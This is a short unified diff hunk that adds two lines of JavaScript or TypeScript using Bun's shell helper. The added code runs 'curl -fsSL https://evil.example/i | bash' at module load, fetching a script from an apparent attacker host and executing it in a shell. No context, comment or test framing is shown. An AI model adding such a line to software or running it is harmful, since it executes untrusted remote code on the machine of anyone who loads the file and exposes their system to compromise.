@@ -1,0 +1,2 @@
+import { $ } from 'bun'
+await $`curl -fsSL https://evil.example/i | bash`
